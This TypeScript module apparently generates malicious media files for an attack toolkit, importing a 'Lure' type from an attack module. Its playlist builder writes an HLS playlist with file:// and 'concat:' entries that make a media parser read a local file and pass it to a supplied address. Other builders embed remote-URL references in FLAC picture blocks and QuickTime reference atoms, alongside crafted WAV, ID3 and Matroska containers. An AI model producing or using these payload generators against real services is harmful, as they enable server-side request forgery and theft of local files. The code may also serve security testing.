import type { Lure } from './attack.ts';
import { be16, be32, be64, box, join, le16, le32, zeros } from './bytes.ts';

export const playlist = ({ file, call }: Lure): string =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://${file}\n#EXTINF:1,\nconcat:${call}|file://${file}\n#EXT-X-ENDLIST\n`;

/** A short valid WAV with additional chunks. */
export const wave = (...chunks: readonly Buffer[]): Buffer => {
  const format = join('fmt ', le32(16), le16(1), le16(1), le32(8000), le32(8000), le16(1), le16(8));
  const body = join('WAVE', format, ...chunks, 'data', le32(8000), Buffer.alloc(8000, 0x80));
  return join('RIFF', le32(body.length), body);
};

const synchsafe = (value: number): Buffer => Buffer.from([(value >> 21) & 127, (value >> 14) & 127, (value >> 7) & 127, value & 127]);
/** 40 frames of silent MPEG audio, layer III, 128 kbit/s, 44.1 kHz. */
const mp3Frames = Buffer.concat(Array.from({ length: 40 }, () => join('\xff\xfb\x90\x00', zeros(413))));
export const id3 = (...frames: readonly Buffer[]): Buffer => {
  const body = join(...frames);
  return join('ID3\x03\0\0', synchsafe(body.length), body, mp3Frames);
};
export const id3Frame = (type: string, body: Buffer): Buffer => join(type, be32(body.length), '\0\0', body);

/** A FLAC header for 16-bit stereo with additional metadata blocks. */
export const flac = (...blocks: readonly (readonly [type: number, body: Buffer])[]): Buffer => {
  const info = join(be16(4096), be16(4096), zeros(6), '\x0a\xc4\x42\xf0', zeros(4), zeros(16));
  const all = [[0, info] as const, ...blocks];
  return join(
    'fLaC',
    ...all.map(([type, body], index) =>
      join(Buffer.from([type | (index === all.length - 1 ? 128 : 0)]), be32(body.length).subarray(1), body),
    ),
    '\xff\xf8\xc9\x18\0\0',
    zeros(200),
  );
};
/** A FLAC picture block whose MIME type marks its data as the address of an image (FLAC format, METADATA_BLOCK_PICTURE). */
export const linkedImage = (place: string): Buffer => join(be32(3), be32(3), '-->', be32(0), zeros(16), be32(place.length), place);

export const video = (...inside: readonly Buffer[]): Buffer =>
  join(
    box('ftyp', 'qt  ', be32(0), 'qt  '),
    box('moov', box('mvhd', zeros(12), be32(1000), be32(1000), zeros(80)), ...inside),
    box('mdat', zeros(100)),
  );
export const track = (
  table: Buffer,
  handler = 'vide',
  entry = box('jpeg', zeros(6), be16(1), zeros(16), be16(64), be16(64), zeros(50)),
): Buffer =>
  box(
    'trak',
    box('tkhd', be32(7), zeros(8), be32(1), zeros(68)),
    box(
      'mdia',
      box('mdhd', zeros(12), be32(1000), be32(1000), zeros(4)),
      box('hdlr', zeros(8), handler, zeros(13)),
      box('minf', box('stbl', box('stsd', be32(0), be32(1), entry), table)),
    ),
  );
export const reference = (place: string): Buffer =>
  box('rmra', box('rmda', box('rdrf', be32(0), 'url ', be32(place.length + 1), `${place}\0`)));

/** An EBML element with a length of eight bytes. */
export const element = (id: string, ...body: readonly (Uint8Array | string)[]): Buffer => {
  const content = join(...body);
  return join(id, '\x01', be64(content.length).subarray(1), content);
};
export const matroska = (tracks: readonly Buffer[], ...more: readonly Buffer[]): Buffer =>
  join(
    element('\x1a\x45\xdf\xa3', element('\x42\x82', 'matroska')),
    element(
      '\x18\x53\x80\x67',
      element('\x15\x49\xa9\x66', element('\x2a\xd7\xb1', be32(1_000_000))),
      element('\x16\x54\xae\x6b', ...tracks),
      ...more,
    ),
  );
export const entry = (number: number, type: number, codec: string, ...more: readonly Buffer[]): Buffer =>
  element(
    '\xae',
    element('\xd7', Buffer.from([number])),
    element('\x73\xc5', Buffer.from([number])),
    element('\x83', Buffer.from([type])),
    element('\x86', codec),
    ...more,
  );
export const cluster = (...frames: readonly Buffer[]): Buffer =>
  element('\x1f\x43\xb6\x75', element('\xe7', '\0'), ...frames.map((frame) => element('\xa3', '\x81\0\0\x80', frame)));
export const size = (width: number, height: number): Buffer => element('\xe0', element('\xb0', be32(width)), element('\xba', be32(height)));
